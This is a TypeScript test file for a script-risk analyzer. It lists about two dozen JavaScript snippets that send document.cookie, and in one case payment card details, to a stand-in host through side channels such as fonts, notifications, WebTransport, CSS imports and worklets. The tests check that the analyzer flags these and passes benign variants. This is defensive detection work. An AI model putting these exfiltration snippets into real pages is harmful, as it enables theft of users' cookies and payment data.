import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { sinksOf } from "../testing/trace-of.ts";

const URL = '"https://c.test/?" + document.cookie';
/** Requests that a browser makes for another purpose than a request. */
const LEAKS = [
	["a font", `new FontFace("a", "url(" + ${URL} + ")").load()`],
	["a font put into the page", `document.fonts.add(new FontFace("a", \`url(\${${URL}})\`))`],
	[
		"a method of payment",
		`new PaymentRequest([{ supportedMethods: "https://c.test/pay", data: { c: document.cookie } }], {}).show()`,
	],
	["a notification's picture", `new Notification("a", { body: "b", icon: ${URL} })`],
	[
		"the picture of what is played",
		`navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: ${URL} }] })`,
	],
	["another screen", `new PresentationRequest([${URL}]).start()`],
	["a sign-in provider", `navigator.credentials.get({ identity: { providers: [{ configURL: ${URL} }] } })`],
	["a cache", `caches.open("a").then((cache) => cache.add(${URL}))`],
	["several in a cache", `(async () => { const cache = await caches.open("a"); await cache.addAll([${URL}]) })()`],
	["an animation", `document.body.animate([{ backgroundImage: "url(" + ${URL} + ")" }], 1)`],
	["a style map", `document.body.attributeStyleMap.set("background-image", "url(" + ${URL} + ")")`],
	["a picture put in by a command", `document.execCommand("insertImage", false, ${URL})`],
	[
		"datagrams",
		`const t = new WebTransport("https://c.test/"); t.ready.then(() => t.datagrams.writable.getWriter().write(document.cookie))`,
	],
	[
		"a stream of a transport",
		`(async () => { const t = new WebTransport("https://c.test/"); const w = (await t.createUnidirectionalStream()).getWriter(); w.write(document.cookie) })()`,
	],
	[
		"a socket of streams",
		`(async () => { const { writable } = await new WebSocketStream("wss://c.test/").opened; writable.getWriter().write(document.cookie) })()`,
	],
	["the module of a worklet", `CSS.paintWorklet.addModule("https://c.test/?" + document.cookie)`],
	["a member that nobody knows", `document.createElement("a").attributionSrc = "https://c.test/?" + document.cookie`],
	[
		"an animated address",
		`const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.href.baseVal = "https://c.test/?" + document.cookie`,
	],
	["a rule of a sheet", `new CSSStyleSheet().insertRule("@import url(https://c.test/?" + document.cookie + ")")`],
	[
		"a rule that is there",
		`document.styleSheets[0].cssRules[0].style.background = "url(https://c.test/?" + document.cookie + ")"`,
	],
	[
		"text put into a style",
		`const s = document.createElement("style"); s.append("@import 'https://c.test/?" + document.cookie + "'")`,
	],
	[
		"a fragment of markup",
		`new Range().createContextualFragment("<img src='https://c.test/?" + document.cookie + "'>")`,
	],
	[
		"the address of a payment method",
		`new PaymentRequest([{ supportedMethods: "https://c.test/?" + document.cookie }], {}).canMakePayment()`,
	],
	["a function of the page", `window.track("https://c.test/?c=" + document.cookie)`],
	["a list for a function of the page", `window.preload({ urls: ["https://c.test/?c=" + document.cookie] })`],
	[
		"a custom property as carrier",
		`document.body.style.setProperty("--a", document.cookie); fetch("https://c.test/?" + getComputedStyle(document.body).getPropertyValue("--a"))`,
	],
] as const;

describe("requests on the side", () => {
	test.each(LEAKS)("%s", (_title, code) => {
		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/third-party c\.test < .*cookie/));
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(LEAKS)("%s of the site itself", (_title, code) => {
		const own = code.replaceAll(/(?:https|wss):\/\/c\.test/g, "/own");
		expect(analyzeScript({ code: own }).risk_level).not.toBe("red");
	});

	test("the card of a payment is a secret", () => {
		const code = `new PaymentRequest([{ supportedMethods: "basic-card" }], {}).show()
.then((answer) => fetch("https://c.test/", { method: "POST", body: JSON.stringify(answer.details) }))`;
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each([
		["a notification without pictures", `new Notification("a", { body: "b" })`],
		["a font of the site", `new FontFace("a", "url(/a.woff2)").load()`],
		["an animation", `document.body.animate([{ opacity: 0 }, { opacity: 1 }], { duration: 200, easing: "ease-in" })`],
		["a payment that stays here", `new PaymentRequest([{ supportedMethods: "basic-card" }], {}).canMakePayment()`],
		["the looks of something", `const { width } = getComputedStyle(document.body); document.body.style.height = width`],
		["a picture of what is played", `navigator.mediaSession.metadata = new MediaMetadata({ title: "a" })`],
	])("%s is nothing", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});
});
